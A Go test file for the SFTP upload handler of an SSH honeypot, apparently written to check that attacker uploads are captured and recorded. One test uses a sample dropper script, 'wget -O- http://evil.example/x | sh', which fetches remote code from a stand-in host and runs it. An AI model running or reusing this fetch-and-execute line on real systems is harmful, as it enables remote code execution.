package sftp

import (
	"context"
	"io"
	"os"
	"path/filepath"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/Lucy-dot-dot/ssh-honeypot-sub000/pkg/metrics"
	"github.com/Lucy-dot-dot/ssh-honeypot-sub000/pkg/recorder"
	"github.com/Lucy-dot-dot/ssh-honeypot-sub000/pkg/vfs"
)

func newTestHandler(t *testing.T) (*handler, *recorder.Recorder) {
	t.Helper()

	store, err := recorder.NewStore(&recorder.Config{
		Type:   recorder.DatabaseTypeSQLite,
		SQLite: recorder.SQLiteConfig{Path: filepath.Join(t.TempDir(), "test.db")},
	})
	require.NoError(t, err)
	t.Cleanup(func() { _ = store.Close() })

	rec := recorder.New(store)
	go rec.Run()
	t.Cleanup(func() {
		ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
		defer cancel()
		_ = rec.Shutdown(ctx)
	})

	fs := vfs.New()
	require.NoError(t, fs.MkdirAll("/tmp", 0o1777, 0, 0))
	require.NoError(t, fs.MkdirAll("/etc", 0o755, 0, 0))
	_, err = fs.CreateFile("/etc/hostname", []byte("web-prod-03\n"), 0o644, 0, 0)
	require.NoError(t, err)

	return &handler{rec: rec, fs: fs, metrics: metrics.NullMetrics(), authID: "auth-1"}, rec
}

func TestUploadRecordsPayload(t *testing.T) {
	h, rec := newTestHandler(t)

	f := &uploadFile{handler: h, path: "/tmp/dropper.sh"}

	// Chunks arrive out of order, like a parallel SFTP client sends them.
	second := []byte(" -O- http://evil.example/x | sh\n")
	first := []byte("#!/bin/sh\nwget")
	_, err := f.WriteAt(second, int64(len(first)))
	require.NoError(t, err)
	_, err = f.WriteAt(first, 0)
	require.NoError(t, err)

	require.NoError(t, f.Close())

	// The payload lands in the virtual filesystem at the claimed path.
	stored, err := h.fs.ReadFile("/tmp/dropper.sh")
	require.NoError(t, err)
	assert.Equal(t, append(first, second...), stored)

	// And in the database once the recorder drains.
	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
	defer cancel()
	require.NoError(t, rec.Shutdown(ctx))

	var uploads []recorder.UploadedFile
	require.NoError(t, rec.Store().DB().Find(&uploads).Error)
	require.Len(t, uploads, 1)
	assert.Equal(t, "auth-1", uploads[0].AuthID)
	assert.Equal(t, "/tmp/dropper.sh", uploads[0].Path)
	assert.Equal(t, int64(len(first)+len(second)), uploads[0].Size)
	assert.Equal(t, "application/x-shellscript", uploads[0].ClaimedMIME)
	assert.Len(t, uploads[0].SHA256, 64)
}

func TestUploadCloseIsIdempotent(t *testing.T) {
	h, rec := newTestHandler(t)

	f := &uploadFile{handler: h, path: "/tmp/once.bin"}
	_, err := f.WriteAt([]byte{1, 2, 3}, 0)
	require.NoError(t, err)

	require.NoError(t, f.Close())
	require.NoError(t, f.Close())

	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
	defer cancel()
	require.NoError(t, rec.Shutdown(ctx))

	var count int64
	require.NoError(t, rec.Store().DB().Model(&recorder.UploadedFile{}).Count(&count).Error)
	assert.Equal(t, int64(1), count)
}

func TestZeroReaderAt(t *testing.T) {
	r := zeroReaderAt{size: 10}

	buf := make([]byte, 4)
	n, err := r.ReadAt(buf, 0)
	require.NoError(t, err)
	assert.Equal(t, 4, n)
	assert.Equal(t, []byte{0, 0, 0, 0}, buf)

	n, err = r.ReadAt(buf, 8)
	assert.Equal(t, 2, n)
	assert.Equal(t, io.EOF, err)

	_, err = r.ReadAt(buf, 10)
	assert.Equal(t, io.EOF, err)
}

func TestListerAt(t *testing.T) {
	entries := listerat{
		fileInfo{name: "a"},
		fileInfo{name: "b"},
		fileInfo{name: "c"},
	}

	buf := make([]os.FileInfo, 2)
	n, err := entries.ListAt(buf, 0)
	require.NoError(t, err)
	assert.Equal(t, 2, n)
	assert.Equal(t, "a", buf[0].Name())

	n, err = entries.ListAt(buf, 2)
	assert.Equal(t, 1, n)
	assert.Equal(t, io.EOF, err)
	assert.Equal(t, "c", buf[0].Name())

	_, err = entries.ListAt(buf, 3)
	assert.Equal(t, io.EOF, err)
}

func TestFileInfoAdapter(t *testing.T) {
	dir := fileInfo{name: "etc", info: vfs.FileInfo{Kind: vfs.KindDirectory, Mode: 0o755}}
	assert.True(t, dir.IsDir())
	assert.True(t, dir.Mode().IsDir())

	link := fileInfo{name: "localhost", info: vfs.FileInfo{Kind: vfs.KindSymlink, Mode: 0o777}}
	assert.Equal(t, os.ModeSymlink, link.Mode()&os.ModeSymlink)

	file := fileInfo{name: "hostname", info: vfs.FileInfo{Kind: vfs.KindRegular, Mode: 0o644, Size: 12}}
	assert.False(t, file.IsDir())
	assert.Equal(t, int64(12), file.Size())
	assert.Equal(t, os.FileMode(0o644), file.Mode())
}
